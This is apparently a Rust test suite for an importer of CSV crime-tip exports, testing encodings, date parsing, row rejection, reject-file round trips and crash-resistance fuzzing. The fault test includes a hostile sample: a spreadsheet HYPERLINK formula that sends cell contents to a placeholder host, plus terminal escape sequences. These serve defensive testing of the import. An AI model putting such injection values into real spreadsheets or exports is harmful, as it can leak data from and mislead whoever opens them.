//! The import as a whole: the four dialects, faults on purpose, the way back of rejected rows.

use super::problem::ProblemKind::*;
use super::rejects::{self, Reject};
use super::*;
use crate::domain::policy::Policy;
use chrono::NaiveDate;
use proptest::prelude::*;

const HEADER: [&str; 10] = [
    "Meldingnummer",
    "Datum melding",
    "Tijd",
    "Thema",
    "Gemeente",
    "Plaats",
    "Straat",
    "Huisnummer",
    "Postcode",
    "Omschrijving",
];

fn any_theme(id: &str) -> bool {
    Policy::built_in().themes.contains_key(id)
}

fn bounds() -> Bounds<'static> {
    Bounds {
        today: NaiveDate::from_ymd_opt(2026, 10, 31).expect("a date"),
        max_text_bytes: 200,
        themes: &any_theme,
    }
}

/// What became of a file: `Ok(reference)` or `Err((field, problem))` for each row.
type Outcomes = Vec<(usize, Result<String, (&'static str, ProblemKind)>)>;

fn outcomes(bytes: &[u8]) -> Outcomes {
    let (profile, bounds) = (Profile::mma(), bounds());
    let sheet = read(bytes, &profile, &bounds).expect("a sheet");
    let outcome = |row: RowOutcome| {
        let outcome = row.outcome.map(|draft| draft.reference);
        (row.row, outcome.map_err(|p| (p.field, p.problem)))
    };
    sheet.rows().map(outcome).collect()
}

fn refusal(bytes: &[u8]) -> SheetError {
    let (profile, bounds) = (Profile::mma(), bounds());
    read(bytes, &profile, &bounds).expect_err("no sheet")
}

/// Cells as a file: delimiter, line end, encoding.
fn written(rows: &[Vec<String>], delimiter: u8, crlf: bool, encoding: &str) -> Vec<u8> {
    let terminator = if crlf {
        csv::Terminator::CRLF
    } else {
        csv::Terminator::Any(b'\n')
    };
    let mut writer = csv::WriterBuilder::new()
        .delimiter(delimiter)
        .terminator(terminator)
        .from_writer(Vec::new());
    for row in rows {
        writer.write_record(row).expect("rows of one width");
    }
    let bytes = writer.into_inner().expect("a vector");
    let text = String::from_utf8(bytes).expect("UTF-8 as written");
    let utf_16 = |mark: bool| text.encode_utf16().map(move |u| (u, mark));
    match encoding {
        "utf8bom" => [b"\xEF\xBB\xBF", text.as_bytes()].concat(),
        "utf16le" => {
            let units = utf_16(true).flat_map(|(u, _)| u.to_le_bytes());
            [0xFF, 0xFE].into_iter().chain(units).collect()
        }
        "utf16be" => {
            let units = utf_16(true).flat_map(|(u, _)| u.to_be_bytes());
            [0xFE, 0xFF].into_iter().chain(units).collect()
        }
        "cp1252" => encoding_rs::WINDOWS_1252.encode(&text).0.into_owned(),
        _ => text.into_bytes(),
    }
}

fn row(number: &str, date: &str, text: &str) -> Vec<String> {
    let cells = [
        number,
        date,
        "08:30",
        "Drugs - hennep",
        "Zoetermeer",
        "Zoetermeer",
        "Röntgenlaan",
        "7 hs",
        "2711AB",
        text,
    ];
    cells.map(str::to_owned).to_vec()
}

fn sheet_of(rows: impl IntoIterator<Item = Vec<String>>) -> Vec<Vec<String>> {
    let header = HEADER.map(str::to_owned).to_vec();
    [header].into_iter().chain(rows).collect()
}

const DIALECTS: [(u8, bool, &str, &str); 5] = [
    (b',', false, "utf8", "2026-03-04"),
    (b';', true, "utf8bom", "04-03-2026"),
    (b';', true, "cp1252", "04-03-2026"),
    (b'\t', true, "utf16le", "4-3-2026"),
    (b'|', true, "utf16be", "04/03/2026"),
];

#[test]
fn a_row_is_the_same_when_it_is_read_again_from_its_place() {
    let file = "Meldingnummer;Datum melding;Omschrijving\r\nM1;03-02-2026;\"twee\nregels; \"\"zo\"\"\"\r\n\
                ;;\r\n\r\nM2;4 feb 26;\"nooit dicht\nM3;\u{2007}05-02-2026;é\nM4;gisteren;drie";
    let (profile, bounds) = (Profile::mma(), bounds());
    let sheet = read(file.as_bytes(), &profile, &bounds).expect("a sheet");
    let rows: Vec<RowOutcome> = sheet.rows().collect();
    let readable: Vec<usize> = rows
        .iter()
        .filter(|r| r.fields.len() > 1)
        .map(|r| r.row)
        .collect();
    assert_eq!(readable, [1, 4, 5]);
    // In any order.
    for row in rows.iter().rev().filter(|row| row.fields.len() > 1) {
        assert!(
            sheet.row_at(row.row, row.at).as_ref() == Some(row),
            "{row:?}"
        );
    }
    assert!(sheet.row_at(9, file.len()).is_none());
}

#[test]
fn every_dialect_gives_the_same_drafts() {
    for (delimiter, crlf, encoding, date) in DIALECTS {
        let text = "Er ruikt iets; \"chemicaliën\", € 5|\nvervolg\tx";
        let bytes = written(
            &sheet_of([row("M1", date, text)]),
            delimiter,
            crlf,
            encoding,
        );
        let (profile, bounds) = (Profile::mma(), bounds());
        let sheet = read(&bytes, &profile, &bounds).expect("a sheet");
        let drafts: Vec<_> = sheet.rows().map(|row| row.outcome.ok()).collect();
        let some = |text: &str| Some(text.to_owned());
        let expected = Draft {
            row: 1,
            reference: "M1".to_owned(),
            received_on: NaiveDate::from_ymd_opt(2026, 3, 4).expect("a date"),
            time: some("08:30"),
            topic: some("Drugs - hennep"),
            theme: "drugs".to_owned(),
            topic_known: true,
            text: text.to_owned(),
            street: some("Röntgenlaan"),
            house_number: some("7 hs"),
            postcode: some("2711AB"),
            city: some("Zoetermeer"),
        };
        assert!(drafts == [Some(expected)], "{encoding}");
    }
}

#[test]
fn every_fault_is_rejected_for_its_own_reason() {
    let good = "Iets gezien.";
    let mut short = row("M4", "04-03-2026", good);
    short.truncate(4);
    let rows = [
        row("", "04-03-2026", good),
        row("M1", "31-02-2026", good),
        row("M2", "01-11-2026", good),
        row("M3", "04-03-26", good),
        row("M5", "04-03-2026", "   "),
        row("M6", "04-03-2026", "=HYPERLINK(\"http://x.invalid/?\"&A1)"),
        row("M7", "04-03-2026", "Zie \x1b[2J\x1b]0;titel\x07."),
        row("M8", "04-03-2026", &"é".repeat(101)),
        row("M9", "", good),
        row("M1", "04-03-2026", good),
    ];
    let mut bytes = written(&sheet_of(rows), b';', true, "cp1252");
    bytes.extend(short.join(";").bytes());
    bytes.extend(b"\r\nM10;04-03-2026;;;;;;;;tekst; zonder; quotes\r\nM11;\"x\r\n;;;;;;;;;\r\n");
    let received = "received_on";
    let rejected = |field, problem| Err((field, problem));
    let (cells, header) = (4, 10);
    assert_eq!(
        outcomes(&bytes),
        [
            (1, rejected("reference", MissingReference)),
            (2, rejected(received, BadDate)),
            (3, rejected(received, DateInFuture)),
            (4, rejected(received, AmbiguousDate)),
            (5, rejected("text", EmptyText)),
            (6, Ok("M6".to_owned())),
            (7, Ok("M7".to_owned())),
            (
                8,
                rejected(
                    "text",
                    TextTooLong {
                        bytes: 202,
                        most: 200
                    }
                )
            ),
            (9, rejected(received, MissingDate)),
            (10, Ok("M1".to_owned())),
            (11, rejected("record", ShortRow { cells, header })),
            (12, rejected("record", LongRow { cells: 12, header })),
            (13, rejected("record", UnreadableRecord)),
        ]
    );
}

#[test]
fn an_unknown_topic_falls_to_the_default_theme_and_is_remembered() {
    let (profile, bounds) = (Profile::mma(), bounds());
    let header = "NUMMER;Datum;Thema;\u{A0}Tekst ;;\n";
    let text =
        format!("{header}1;2026-01-02;Katten;x;;\n2;2026-01-02;;x\n3;2026-01-02; DRUGSDELICTEN;x");
    let sheet = read(text.as_bytes(), &profile, &bounds).expect("a sheet");
    let themes: Vec<_> = sheet
        .rows()
        .filter_map(|row| row.outcome.ok())
        .map(|draft| (draft.theme, draft.topic_known))
        .collect();
    let theme = |id: &str, known| (id.to_owned(), known);
    assert_eq!(
        themes,
        [
            theme("other", false),
            theme("other", true),
            theme("drugs", true)
        ]
    );
}

#[test]
fn a_file_without_a_needed_column_is_refused_with_the_accepted_names() {
    let SheetError::MissingColumns(missing) = refusal(b"Thema;Datum\nx;2026-01-02\n") else {
        panic!("refused for another reason");
    };
    let fields: Vec<_> = missing.iter().map(|(field, _)| field.id()).collect();
    assert_eq!(fields, ["reference", "text"]);
    let said = SheetError::MissingColumns(missing).to_string();
    assert!(
        said.contains("Meldingnummer") && said.contains("Omschrijving"),
        "{said}"
    );
}

#[test]
fn a_header_that_leaves_a_choice_is_refused() {
    assert_eq!(
        refusal(b"Nummer;Datum;Tekst;tekst\n"),
        SheetError::DoubleColumn(profile::Field::Text)
    );
    assert_eq!(refusal(b"Nummer;\"Datum;Tekst\n"), SheetError::BadHeader);
}

#[test]
fn a_profile_with_themes_that_the_office_lacks_is_refused() {
    let (mut profile, bounds) = (Profile::mma(), bounds());
    profile
        .topics
        .insert("Katten".to_owned(), "cats".to_owned());
    let error = read(b"Nummer;Datum;Tekst\n", &profile, &bounds).expect_err("refused");
    assert_eq!(error, SheetError::UnknownThemes(vec!["cats".to_owned()]));
}

#[test]
fn debug_output_says_nothing_of_a_tip() {
    let rows = sheet_of([row("M1", "04-03-2026", "geheim"), row("", "x", "geheim")]);
    let bytes = written(&rows, b';', true, "utf8");
    let (profile, bounds) = (Profile::mma(), bounds());
    let sheet = read(&bytes, &profile, &bounds).expect("a sheet");
    let said = format!("{sheet:?} {:?}", sheet.rows().collect::<Vec<_>>());
    assert!(!said.contains("geheim") && !said.contains("M1"), "{said}");
}

/// The rejected rows of a file as the file that is written for them.
fn rejected(bytes: &[u8]) -> Vec<u8> {
    let (profile, bounds) = (Profile::mma(), bounds());
    let sheet = read(bytes, &profile, &bounds).expect("a sheet");
    let rows: Vec<(Vec<String>, String)> = sheet
        .rows()
        .filter_map(|row| {
            row.outcome
                .err()
                .map(|p| (row.fields, p.problem.id().to_owned()))
        })
        .collect();
    let rejects: Vec<Reject<'_>> = rows
        .iter()
        .map(|(fields, problem)| Reject { fields, problem })
        .collect();
    let mut out = Vec::new();
    rejects::write(&mut out, &sheet.header, &rejects).expect("a vector");
    out
}

#[test]
fn rejected_rows_come_in_once_they_are_mended() {
    let rows = [
        row("M1", "04-03-2026", "goed"),
        row("M2", "31-02-2026", "=1+1 \"é\"\nregel"),
        row("M3", "32-03-2026", "'=x"),
    ];
    let first = written(&sheet_of(rows), b',', false, "cp1252");
    let file = rejected(&first);
    assert_eq!(rejected(&file), file, "unmended it is rejected the same");
    let text = String::from_utf8(file).expect("UTF-8");
    assert!(
        text.contains(";\"'=1+1 \"\"é\"\"\nregel\";bad-date\r\n"),
        "{text}"
    );
    let mended = text.replace("31-02", "28-02").replace("32-03", "31-03");
    let (profile, bounds) = (Profile::mma(), bounds());
    let sheet = read(mended.as_bytes(), &profile, &bounds).expect("a sheet");
    assert_eq!(sheet.header, HEADER);
    let texts: Vec<_> = sheet
        .rows()
        .filter_map(|row| row.outcome.ok())
        .map(|draft| draft.text)
        .collect();
    assert_eq!(texts, ["=1+1 \"é\"\nregel", "'=x"]);
}

#[test]
fn rows_of_a_wrong_width_are_written_with_the_problem_in_its_column() {
    let file = rejected(b"Nummer;Datum;Tekst\n1;2026-01-02\n2;2026-01-02;a;b;c\n3;\"x\n");
    assert_eq!(
        String::from_utf8(file.clone()).expect("UTF-8"),
        "\u{FEFF}Nummer;Datum;Tekst;;;problem\r\n\
         1;2026-01-02;;;;short-row\r\n\
         2;2026-01-02;a;b;c;long-row\r\n\
         \"3;\"\"x\";;;;;unreadable-record\r\n"
    );
    let problems: Vec<_> = outcomes(&file)
        .into_iter()
        .map(|(_, outcome)| outcome.map_err(|(_, problem)| problem.id()))
        .collect();
    assert_eq!(
        problems,
        [Err("empty-text"), Err("long-row"), Err("missing-date")]
    );
}

#[test]
fn the_example_export_is_what_the_manual_says() {
    let bytes = include_bytes!("../../examples/tips/mma-2026-q1.csv");
    let found = outcomes(bytes);
    let wrong: Vec<_> = found
        .iter()
        .filter(|(_, outcome)| outcome.is_err())
        .collect();
    assert_eq!(found.len(), 12);
    assert_eq!(wrong, [&(9, Err(("received_on", BadDate)))]);
}

fn cell() -> impl Strategy<Value = String> {
    // Within Windows-1252, so that every encoding can carry it; full of what cells must quote. No
    // characters that are valid UTF-8 when written in Windows-1252, as `ß€` is.
    "[a-z0-9 ;,|\"'\t\r\n=éëïß]{0,12}"
}

proptest! {
    #[test]
    fn no_bytes_make_the_import_panic(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        let (profile, bounds) = (Profile::mma(), bounds());
        let sheet = read(&bytes, &profile, &bounds);
        prop_assert!(sheet.is_err() || sheet.is_ok_and(|sheet| sheet.rows().count() < 300));
    }

    #[test]
    fn no_text_below_a_good_header_makes_the_import_panic(body in "[;\"\r\n0-9\\-a\u{0}é=]{0,200}") {
        let (profile, bounds) = (Profile::mma(), bounds());
        let text = format!("Nummer;Datum;Tekst\n{body}");
        if let Ok(sheet) = read(text.as_bytes(), &profile, &bounds) {
            let last = sheet.rows().last().map_or(0, |row| row.row);
            prop_assert!(last <= body.len());
        }
    }

    #[test]
    fn a_written_sheet_reads_back_the_same(
        rows in prop::collection::vec(prop::collection::vec(cell(), 10), 0..8),
        dialect in 0..DIALECTS.len(),
    ) {
        let (delimiter, crlf, encoding, _) = DIALECTS[dialect];
        // A row of nothing has a number and no outcome; the first cell keeps each row in.
        let rows: Vec<Vec<String>> = rows
            .into_iter()
            .map(|mut row| { row[0].insert(0, 'x'); row })
            .collect();
        let bytes = written(&sheet_of(rows.clone()), delimiter, crlf, encoding);
        let (profile, bounds) = (Profile::mma(), bounds());
        let sheet = read(&bytes, &profile, &bounds).expect("a sheet");
        prop_assert_eq!(&sheet.header, &HEADER);
        let read: Vec<Vec<String>> = sheet.rows().map(|row| row.fields).collect();
        prop_assert_eq!(read, rows);
    }

    #[test]
    fn rejected_rows_read_back_the_same(
        rows in prop::collection::vec(prop::collection::vec(cell(), 1..13), 1..6),
    ) {
        let rows: Vec<Vec<String>> = rows
            .into_iter()
            .map(|mut row| { row[0].insert(0, '='); row })
            .collect();
        let rejects: Vec<_> = rows.iter().map(|fields| Reject { fields, problem: "x" }).collect();
        let mut out = Vec::new();
        rejects::write(&mut out, &HEADER.map(str::to_owned), &rejects).expect("a vector");
        let (profile, bounds) = (Profile::mma(), bounds());
        let sheet = read(&out, &profile, &bounds).expect("a sheet");
        let width = rows.iter().map(Vec::len).max().unwrap_or(0).max(10);
        let read: Vec<Vec<String>> = sheet.rows().map(|row| row.fields).collect();
        let padded: Vec<Vec<String>> = rows
            .into_iter()
            .map(|mut row| { row.resize(width, String::new()); row })
            .collect();
        prop_assert_eq!(read, padded);
    }
}
